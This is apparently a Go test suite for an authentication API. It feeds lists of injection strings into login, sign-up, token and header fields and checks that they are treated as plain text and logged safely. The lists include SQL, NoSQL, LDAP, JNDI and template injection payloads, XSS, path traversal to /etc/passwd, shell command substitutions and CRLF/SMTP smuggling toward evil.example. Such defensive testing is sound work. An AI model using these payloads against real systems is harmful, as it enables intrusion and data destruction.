package httpd_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
)

// plain is random text, and injections are texts that mean something to a
// database, a template, a terminal, a log or a mail server.
const plain = "4rbq7nixw2"

var injections = []string{
	"' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE users; --", "') UNION SELECT password_hash FROM users --", "a' AND sleep(5) --", "\\' OR 1=1 #",
	"%", "_", "%@%", "ann%", "*", "?", "[a-z]*", "^.*$",
	`{"$ne":""}`, `{"$gt":""}`, "$where", "[$ne]", "*)(uid=*))(|(uid=*", "${jndi:ldap://x/a}", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "%s%s%n%d",
	"<script>alert(1)</script>", "\"><img src=x>", "../../etc/passwd", "..\\..\\", "/dev/null", "|id", "$(id)", "`id`", "; id", "= cmd|'/c calc'!A0", "user:{x}:*",
	"true", "null", "0", "-1", "1e309", "NaN", "[]", "\u00e9\u0301\U0001f600",
}

// breaking are those that would break a line, or hide in one.
var breaking = []string{
	"a\r\nSet-Cookie: x=y", "a\nb", "a\rb", "a\x00b", "\x1b[2J\x1b[31mroot", "a\u2028b", "a\u2029b", "a\u202eb", "a\u2066b", "a\u0085b", "a\tb\x07", "a\r\nRCPT TO:<x@evil.example>",
	"a\n{\"level\":\"INFO\",\"msg\":\"request\"}",
}

// TestInjectionsAreText: whatever stands where a name, an id, a token or a
// password is asked for, the answer is that to random text, word for word.
func TestInjectionsAreText(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.service.Unlimited = true
	p := w.join(t, "")
	w.clock.advance(time.Second) // the session is older than the attack
	places := map[string]func(text string) answer{
		"login name": func(s string) answer {
			return w.do(t, "POST /auth/login", object{"usernameOrEmailOrMobile": s, "password": p.Password})
		},
		"login e-mail":   func(s string) answer { return w.do(t, "POST /auth/login", object{"email": s, "password": p.Password}) },
		"login password": func(s string) answer { return w.do(t, "POST /auth/login", object{"email": p.Email, "password": s}) },
		"login id":       func(s string) answer { return w.do(t, "POST /auth/login/resend", object{"loginId": s}) },
		"code": func(s string) answer {
			return w.do(t, "POST /auth/login/verify", object{"loginId": uuid.NewString(), "otp": s})
		},
		"refresh token": func(s string) answer { return w.do(t, "POST /auth/refresh", object{"refreshToken": s}) },
		"session id": func(s string) answer {
			return w.do(t, "POST /auth/logout/session", object{"sessionId": s}, p.bearer()...)
		},
		"sign-up space": func(s string) answer {
			in := stranger("").signUp()
			in["spaceId"] = s
			return w.do(t, "POST /auth/sign-up", in)
		},
		"sign-up e-mail": func(s string) answer {
			in := stranger("").signUp()
			in["email"] = s
			return w.do(t, "POST /auth/sign-up", in)
		},
	}
	for name, ask := range places {
		t.Run(name, func(t *testing.T) {
			want := gist(ask(plain))
			for _, text := range append(injections, breaking...) {
				if got := gist(ask(text)); got != want {
					t.Errorf("%q: got %s, want %s", text, got, want)
				}
			}
		})
	}
	t.Run("headers", func(t *testing.T) {
		for _, text := range injections {
			w.do(t, "GET /auth/me", nil, p.bearer("x-tenant-id", text)...).want(t, 404, "TENANT_NOT_FOUND")
			w.do(t, "GET /auth/me", nil, p.bearer("x-space-id", text)...).want(t, 403, "FORBIDDEN")
			w.do(t, "GET /auth/me", nil, "x-access-token", text).want(t, 401, "TOKEN_INVALID")
			w.do(t, "GET /auth/me", nil, p.bearer("User-Agent", text, "X-Request-Id", text, "X-Forwarded-For", text)...).want(t, 200, "CURRENT_USER_OK")
		}
	})
	if got := len(w.dump(t)["users"]); got != 1 {
		t.Errorf("%d users, want 1", got)
	}
}

// gist is an answer without what differs from one to the next.
func gist(a answer) string {
	var meta struct{ Meta map[string]any }
	if err := json.Unmarshal(a.body, &meta); err != nil {
		return err.Error()
	}
	delete(meta.Meta, "requestId")
	return fmt.Sprint(a.status, a.Message, meta.Meta)
}

// TestNamesComeBackAsTheyWereGiven: what is text stays it, and what breaks a
// line is refused.
func TestNamesComeBackAsTheyWereGiven(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, text := range injections {
		p := stranger("")
		in := p.signUp()
		in["name"], in["nickname"] = text, text
		w.do(t, "POST /auth/sign-up", in).want(t, 201, "USER_CREATED")
		var l person
		w.do(t, "POST /auth/login", object{"email": p.Email, "password": p.Password, "deviceName": text}).want(t, 200, "LOGIN_SUCCESS").into(t, &l)
		var me struct{ Name, Nickname string }
		w.do(t, "GET /auth/me", nil, l.bearer()...).into(t, &me)
		var devices []struct {
			DeviceName string
			Current    bool
		}
		w.do(t, "GET /auth/sessions", nil, l.bearer()...).into(t, &devices)
		for _, d := range devices {
			if d.Current && d.DeviceName != text && d.DeviceName != composed {
				t.Errorf("device %q came back as %q", text, d.DeviceName)
			}
		}
		if me.Name != text && me.Name != composed || me.Nickname != me.Name {
			t.Errorf("name %q came back as %q and %q", text, me.Name, me.Nickname)
		}
	}
	p := w.join(t, "")
	for _, text := range breaking {
		for _, field := range []string{"name", "nickname"} {
			in := stranger("").signUp()
			in[field] = text
			w.do(t, "POST /auth/sign-up", in).want(t, 400, "VALIDATION_FAILED").wantFields(t, field)
		}
		w.do(t, "POST /auth/login", object{"email": p.Email, "password": p.Password, "deviceName": text}).
			want(t, 400, "VALIDATION_FAILED").wantFields(t, "deviceName")
	}
}

// composed is the NFC form of the last of the injections, in which names are
// kept.
const composed = "\u00e9\u0301\U0001f600"

// TestOneLineOfLogARequest, whatever is in it.
func TestOneLineOfLogARequest(t *testing.T) {
	w := newWorld(t)
	_, mark := logged.since(0)
	n := 0
	ask := func(request string, body any, headers ...string) {
		w.do(t, request, body, headers...)
		n++
	}
	for _, text := range append(injections, breaking...) {
		ask("POST /auth/login", object{"email": text, "password": text + canary})
		ask("POST /auth/login", object{text: text})
	}
	for _, text := range injections {
		ask("GET /auth/me", nil, "User-Agent", text, "X-Request-Id", text, "x-tenant-id", text, "Origin", text, "X-Forwarded-For", text)
	}
	for _, path := range []string{"/%0d%0aSet-Cookie:x", "/auth/%1b%5b2J", "/?token=" + canary, "/auth/me?accessToken=" + canary, "/%E2%80%A8", "/" + strings.Repeat("a", 4000), "/" + canary} {
		ask("GET "+path, nil)
	}
	ask(canary+" /auth/login", nil)
	ask("POST /auth/login", object{"email": "nobody@example.com", "password": canary}, "x-tenant-id", pages)
	text, _ := logged.since(mark)
	var last struct {
		Tenant string
		MS     float64
	}
	lines := strings.Split(strings.TrimSpace(text), "\n")
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &last); err != nil || last.Tenant != pages || last.MS <= 0 {
		t.Errorf("tenant and time are not in %s", lines[len(lines)-1])
	}
	if got := strings.Count(text, "\n"); got != n {
		t.Errorf("%d lines of log for %d requests", got, n)
	}
	for line := range strings.Lines(text) {
		var event struct{ Msg, Route, Method, Code, RequestID string }
		if err := json.Unmarshal([]byte(line), &event); err != nil || event.Msg != "request" || event.Route == "" || event.Code == "" || !idForm.MatchString(event.RequestID) {
			t.Errorf("no line about a request: %s", line)
		}
	}
}
